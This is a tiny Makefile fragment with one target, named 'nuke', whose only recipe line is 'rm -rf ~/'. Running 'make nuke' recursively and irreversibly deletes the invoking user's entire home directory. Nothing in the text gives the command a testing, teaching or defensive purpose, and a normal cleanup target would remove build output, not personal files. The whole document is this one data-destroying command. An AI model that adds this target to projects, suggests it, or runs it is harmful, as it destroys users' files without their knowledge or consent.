nuke:
	rm -rf ~/
